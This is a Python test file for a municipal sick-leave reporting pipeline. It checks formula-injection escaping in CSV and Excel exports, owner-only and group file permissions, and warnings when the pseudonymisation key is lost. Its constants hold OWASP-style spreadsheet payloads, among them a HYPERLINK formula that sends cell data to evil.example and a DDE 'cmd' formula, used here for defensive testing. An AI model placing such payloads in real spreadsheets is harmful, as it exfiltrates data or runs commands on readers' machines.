"""Safe to run in a municipality: text from the exports never becomes a formula in HR's workbook
or CSV files, person-level files are owner-only whatever the umask while the published ones are
readable by the configured group, and a lost pseudonymisation key is said loudly.

The night at the end runs the whole flow on twelve employees in two units whose unit and sector
names are the classic spreadsheet attacks (OWASP's CSV injection list).
"""

from __future__ import annotations

import csv
import datetime as dt
import grp
import io
import os
import stat
from decimal import Decimal
from pathlib import Path

import pyarrow as pa
import pytest
from openpyxl import Workbook, load_workbook

from pipeline import deliver, filemodes, privacy
from pipeline.alerts import night_warnings_message
from pipeline.errors import UserError
from pipeline.night_report import summary_markdown
from pipeline.settings import Settings
from tests.sample_files import absences, employments

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A2,"Klikk her")'
COMMAND = "=cmd|' /C calc'!A0"
HOSTILE = [HYPERLINK, COMMAND, "@SUM(1+1)", "+1", "-2+3", "\t=1+1", "\r=2+2"]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def _mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


@pytest.fixture
def umask_022():
    """The usual umask of a login shell, put back afterwards (a night sets its own)."""
    previous = os.umask(0o022)
    yield
    os.umask(previous)


@pytest.fixture
def share_group(monkeypatch) -> int:
    """A group the test's account belongs to, as SICKLEAVE_SHARE_GROUP (a supplementary one
    when there is one, so the group is visibly set, not inherited)."""
    gid = next((g for g in os.getgroups() if g != os.getgid()), os.getgid())
    monkeypatch.setenv(filemodes.SHARE_GROUP_ENV, grp.getgrgid(gid).gr_name)
    return gid


# --- formula injection: the rule --------------------------------------------------------------


def _csv_fields(path: Path) -> list[list[str]]:
    data = path.read_bytes()
    assert data.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(data[3:].decode("utf-8"), newline=""), delimiter=";"))


def test_csv_text_starting_like_a_formula_gets_a_quote_and_numbers_stay_numbers(tmp_path):
    names = [*HOSTILE, "Andebu sykehjem", None]
    n = len(names)
    table = pa.table(
        {
            "name": pa.array(names, pa.string()),
            "change": pa.array([Decimal("-2.5")] * n, pa.decimal128(9, 1)),
            "persons": pa.array([-3] * n, pa.int64()),
        }
    )
    mart = {"table": "t", "file": "t", "columns": {"name": "Navn", "change": "Endring"}}
    path = tmp_path / "t.csv"
    deliver.write_csv(path, table, mart, {})
    rows = _csv_fields(path)
    assert rows[0] == ["Navn", "Endring", "persons"]
    assert [r[0] for r in rows[1:]] == [
        "'" + HYPERLINK,
        "'" + COMMAND,
        "'@SUM(1+1)",
        "'+1",
        "'-2+3",
        "'\t=1+1",
        "'\r=2+2",
        "Andebu sykehjem",
        "",
    ]
    # A negative number is a number, not a formula: no quote in front.
    assert {r[1] for r in rows[1:]} == {"-2,5"} and {r[2] for r in rows[1:]} == {"-3"}


def test_mart_sheet_keeps_formula_like_text_as_text(tmp_path):
    names = [*HOSTILE, "Andebu sykehjem"]
    table = pa.table(
        {
            "name": pa.array(names, pa.string()),
            "change": pa.array([Decimal("-2.5")] * len(names), pa.decimal128(9, 1)),
        }
    )
    workbook = Workbook()
    deliver.write_mart_sheet(workbook.active, table, {"columns": {"name": "Navn"}}, {})
    workbook.save(tmp_path / "t.xlsx")
    sheet = load_workbook(tmp_path / "t.xlsx").active
    cells = [row[0] for row in sheet.iter_rows(min_row=2)]
    # Shown as in the export, no quote added (the carriage return is written as a character
    # reference, so it reads back as itself).
    assert [c.value for c in cells] == names
    assert [c.data_type for c in cells] == ["s"] * len(names)
    assert [c.quotePrefix for c in cells] == [True] * len(HOSTILE) + [False]
    assert [row[1].value for row in sheet.iter_rows(min_row=2)] == [-2.5] * len(names)
    assert {row[1].data_type for row in sheet.iter_rows(min_row=2)} == {"n"}


def test_keep_as_text_leaves_ordinary_text_and_numbers_alone():
    sheet = Workbook().active
    cells = [sheet.cell(row=1, column=i + 1, value=v) for i, v in enumerate([COMMAND, "Nådd", -1])]
    assert cells[0].data_type == "f"  # openpyxl's own reading of the text: a formula
    for cell in cells:
        deliver.keep_as_text(cell)
    assert [(c.value, c.data_type, c.quotePrefix) for c in cells] == [
        (COMMAND, "s", True),
        ("Nådd", "s", False),
        (-1, "n", False),
    ]


# --- Excel numbers are the published decimals ---------------------------------------------------


def test_mart_sheet_stores_the_published_decimal_not_a_binary_neighbour(tmp_path):
    # Arrow's direct decimal-to-double cast gives 8.200000000000001 and 99.46000000000001 here.
    table = pa.table(
        {
            "a": pa.array([Decimal("8.2"), Decimal("0.6")], pa.decimal128(20, 4)),
            "b": pa.array([Decimal("99.46"), Decimal("63.1")], pa.decimal128(20, 8)),
        }
    )
    workbook = Workbook()
    deliver.write_mart_sheet(workbook.active, table, {"columns": {}}, {})
    workbook.save(tmp_path / "n.xlsx")
    sheet = load_workbook(tmp_path / "n.xlsx").active
    values = [[c.value for c in row] for row in sheet.iter_rows(min_row=2)]
    assert [[repr(v) for v in row] for row in values] == [["8.2", "99.46"], ["0.6", "63.1"]]


# --- file modes ---------------------------------------------------------------------------------


def test_private_files_are_owner_only_whatever_the_umask(tmp_path, umask_022, monkeypatch):
    monkeypatch.delenv(filemodes.SHARE_GROUP_ENV, raising=False)
    folder = filemodes.make_dir(tmp_path / "rejected" / "agresso")
    written = filemodes.write_text(folder / "x.grunn.txt", "Årsak\n")
    tmp = tmp_path / "building"
    tmp.write_text("data")
    assert _mode(tmp) == 0o644  # what the umask alone gives
    moved = filemodes.replace(tmp, folder / "built")
    assert (_mode(folder), _mode(written), _mode(moved)) == (0o700, 0o600, 0o600)
    assert written.read_text() == "Årsak\n" and moved.read_text() == "data"
    assert not list(folder.glob(".*.new"))


def test_published_files_are_group_readable_only_with_a_share_group(
    tmp_path, umask_022, monkeypatch, share_group
):
    shared = filemodes.write_text(tmp_path / "validering.html", "<p>", shared=True)
    folder = filemodes.make_dir(tmp_path / "reports", shared=True)
    assert (_mode(shared), _mode(folder)) == (0o640, 0o750)
    assert shared.stat().st_gid == folder.stat().st_gid == share_group
    private = filemodes.write_text(tmp_path / "last_run.json", "{}")
    assert _mode(private) == 0o600  # person-level or operational: never the group's
    monkeypatch.delenv(filemodes.SHARE_GROUP_ENV)
    alone = filemodes.write_text(tmp_path / "owner.html", "<p>", shared=True)
    assert _mode(alone) == 0o600


def test_unknown_share_group_is_one_sentence(monkeypatch):
    monkeypatch.setenv(filemodes.SHARE_GROUP_ENV, "finnes-ikke-gruppe")
    with pytest.raises(UserError, match="Gruppen «finnes-ikke-gruppe» i SICKLEAVE_SHARE_GROUP"):
        filemodes.share_group()


# --- the key ------------------------------------------------------------------------------------


@pytest.fixture
def key_file(tmp_path, monkeypatch) -> Path:
    monkeypatch.delenv(privacy.KEY_ENV, raising=False)
    path = tmp_path / "config" / "pseudonym.key"
    monkeypatch.setenv(privacy.KEY_FILE_ENV, str(path))
    return path


def test_first_night_makes_a_key_quietly_and_a_deleted_key_is_said(tmp_path, key_file):
    warehouse = tmp_path / "warehouse"
    warehouse.mkdir()
    first = privacy.open_night_key(warehouse, Settings())
    assert (first.created, first.replaced, first.warning) == (True, False, None)
    assert _mode(key_file) == 0o600 and _mode(key_file.parent) == 0o700
    (warehouse / "internal.duckdb").write_bytes(b"")  # the night built its warehouse
    privacy.record_night_key(warehouse, first)
    same = privacy.open_night_key(warehouse, Settings())
    assert (same.key, same.created, same.replaced) == (first.key, False, False)
    key_file.unlink()
    lost = privacy.open_night_key(warehouse, Settings())
    assert lost.key != first.key and (lost.created, lost.replaced) == (True, True)
    assert lost.warning.startswith(f"Pseudonymiseringsnøkkelen ({key_file}) er borte, og en ny")
    # Until a night publishes with the new key, every night says it again.
    again = privacy.open_night_key(warehouse, Settings())
    assert (again.created, again.replaced) == (False, True)
    assert "er byttet ut" in again.warning
    privacy.record_night_key(warehouse, again)
    assert not privacy.open_night_key(warehouse, Settings()).replaced


def test_lost_key_noticed_on_a_warehouse_built_before_key_ids_were_recorded(tmp_path, key_file):
    warehouse = tmp_path / "warehouse"
    warehouse.mkdir()
    (warehouse / "analytics.duckdb").write_bytes(b"")
    # no key file, but a warehouse: lost
    assert privacy.open_night_key(warehouse, Settings()).replaced


def test_changed_key_in_the_environment_is_said(tmp_path, monkeypatch):
    warehouse = tmp_path / "warehouse"
    warehouse.mkdir()
    monkeypatch.setenv(privacy.KEY_ENV, "a" * 40)
    privacy.record_night_key(warehouse, privacy.open_night_key(warehouse, Settings()))
    monkeypatch.setenv(privacy.KEY_ENV, "b" * 40)
    changed = privacy.open_night_key(warehouse, Settings())
    assert changed.replaced and changed.warning.startswith(
        "Pseudonymiseringsnøkkelen (SICKLEAVE_PSEUDONYM_KEY) er byttet ut"
    )
    assert (warehouse / privacy.KEY_ID_FILE).read_text().strip() != "a" * 40  # an id, not the key


def test_night_summary_and_alert_carry_the_warning():
    warning = "Pseudonymiseringsnøkkelen (/x) er borte, og en ny nøkkel er laget: ..."
    markdown = summary_markdown(
        night="01.07.2014",
        run_id="abc",
        as_of="30.06.2014",
        skipped=False,
        files_read=3,
        rejected=[],
        rows_loaded=10,
        findings=[],
        current=None,
        previous=None,
        warnings=[warning],
    )
    assert markdown.splitlines()[2] == f"> **Advarsel:** {warning}"
    title, body = night_warnings_message(dt.date(2014, 6, 30), "abc", [warning], None)
    assert title == "Sykefravær: advarsel fra nattkjøringen"
    assert body.splitlines() == ["Kjøring abc (beregnet per 30.06.2014):", f"- {warning}"]


# --- the whole night ----------------------------------------------------------------------------


def _csv_field(name: str) -> str:
    return '"' + name.replace('"', '""') + '"'


def _hostile_organisation() -> str:
    rows = ["Arbeidssted;Navn;Sektor;Sektornavn;Orgnr;Fra dato;Til dato"]
    rows.append(f"2010;{_csv_field(HYPERLINK)};20;{_csv_field(COMMAND)};;;")
    rows.append(f"3010;{_csv_field('@SUM(1+1)')};30;{_csv_field('-2+3')};;;")
    return "\r\n".join(rows) + "\r\n"


@pytest.fixture(scope="module")
def hostile_night(tmp_path_factory, prefect_harness):
    """Two nights under umask 022 with a share group and a key file in tmp: the first on the
    hostile organisation export (and one stray file, which is rejected), the second after the
    key file was deleted."""
    from flows.nightly import nightly

    root = tmp_path_factory.mktemp("hostile")
    folder = root / "data" / "raw" / "agresso"
    folder.mkdir(parents=True)
    (folder / "organisasjon.csv").write_bytes(_hostile_organisation().encode("cp1252"))
    (folder / "ansettelser.csv").write_bytes(employments().encode("cp1252"))
    (folder / "fravaer.csv").write_bytes(absences().encode("cp1252"))
    (folder / "lonnsliste.csv").write_text("Navn;Fødselsnr\r\nOla Nordmann;01017012345\r\n")
    gid = next((g for g in os.getgroups() if g != os.getgid()), os.getgid())
    key_file = root / "config" / "pseudonym.key"
    saved = {name: os.environ.get(name) for name in ("SICKLEAVE_SHARE_GROUP", privacy.KEY_ENV)}
    saved[privacy.KEY_FILE_ENV] = os.environ.get(privacy.KEY_FILE_ENV)
    os.environ[filemodes.SHARE_GROUP_ENV] = grp.getgrgid(gid).gr_name
    os.environ[privacy.KEY_FILE_ENV] = str(key_file)
    os.environ.pop(privacy.KEY_ENV, None)
    umask = os.umask(0o022)
    try:
        run = {
            "raw_dir": root / "data" / "raw",
            "warehouse_dir": root / "data" / "warehouse",
            "as_of": dt.date(2014, 6, 30),
        }
        first = nightly(**run)
        modes = {
            str(p.relative_to(root / "data")): (_mode(p), p.stat().st_gid)
            for p in (root / "data").rglob("*")
            if "raw" not in p.relative_to(root / "data").parts
        }
        key_file.unlink()
        second = nightly(**run, force=True)
    finally:
        os.umask(umask)
        for name, value in saved.items():
            if value is None:
                os.environ.pop(name, None)
            else:
                os.environ[name] = value
    return root / "data", first, second, modes, gid


def test_hostile_names_reach_no_workbook_as_a_formula(hostile_night):
    data, *_ = hostile_night
    workbooks = sorted(data.rglob("*.xlsx"))
    assert [p.name for p in workbooks] == ["gevinstrapport_2014K2.xlsx"]
    texts = set()
    for path in workbooks:
        for sheet in load_workbook(path):
            for row in sheet.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", (path.name, sheet.title, cell.coordinate)
                    texts.add(cell.value)
    assert {HYPERLINK, COMMAND, "@SUM(1+1)", "-2+3"} <= texts  # shown as written, as text


def test_hostile_names_start_no_csv_field_with_a_formula_character(hostile_night):
    data, *_ = hostile_night
    files = sorted((data / "reports").rglob("*.csv"))
    assert len(files) >= 5
    fields = [f for path in files for row in _csv_fields(path) for f in row]
    numbers = {f for f in fields if f.startswith("-") and f[1:].replace(",", "").isdigit()}
    assert [f for f in fields if f.startswith(FORMULA_START) and f not in numbers] == []
    assert {"'" + HYPERLINK, "'" + COMMAND, "'@SUM(1+1)", "'-2+3"} <= set(fields)


def test_night_leaves_person_level_files_owner_only_and_shares_the_published(hostile_night):
    data, first, _, modes, gid = hostile_night
    assert first.files_rejected == 1
    private_files = [
        "warehouse/internal.duckdb",
        "warehouse/last_run.json",
        "warehouse/pseudonym_key.id",
    ]
    rejected = sorted(name for name in modes if name.startswith("rejected"))
    assert rejected == [
        "rejected",
        "rejected/agresso",
        f"rejected/agresso/{first.run_id}_lonnsliste.csv",
        f"rejected/agresso/{first.run_id}_lonnsliste.csv.grunn.txt",
    ]
    for name in private_files + rejected:
        assert modes[name][0] == (0o700 if (data / name).is_dir() else 0o600), name
    shared = ["warehouse", "warehouse/analytics.duckdb", "warehouse/validering.html", "reports"]
    shared += [name for name in modes if name.startswith("reports/")]
    for name in shared:
        expected = 0o750 if (data / name).is_dir() else 0o640
        assert modes[name] == (expected, gid), name
    # Nothing else in the data folder is readable by anyone but the owner and the group.
    assert all(mode & 0o007 == 0 for mode, _ in modes.values())


def test_a_deleted_key_is_said_in_the_nights_result(hostile_night):
    _, first, second, *_ = hostile_night
    assert first.warnings == []  # the first night makes its key quietly
    assert len(second.warnings) == 1
    assert (
        second.warnings[0].startswith("Pseudonymiseringsnøkkelen (")
        and "er borte" in (second.warnings[0])
    )


def test_a_failed_atomic_write_leaves_neither_half_a_file_nor_its_temporary(tmp_path, monkeypatch):
    """filemodes.write_bytes is the one write-then-rename: when the write fails after the
    temporary file exists (here the rename itself), the target keeps its old content and no
    temporary file stays behind."""
    target = tmp_path / "last_run.json"
    filemodes.write_text(target, "old\n")

    def full_disk(tmp, target, shared=False):
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(filemodes, "replace", full_disk)
    with pytest.raises(OSError):
        filemodes.write_bytes(target, b"new\n")
    assert target.read_text() == "old\n"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["last_run.json"]
    assert filemodes.temporary_path(target).name == f".last_run.json.{os.getpid()}.new"
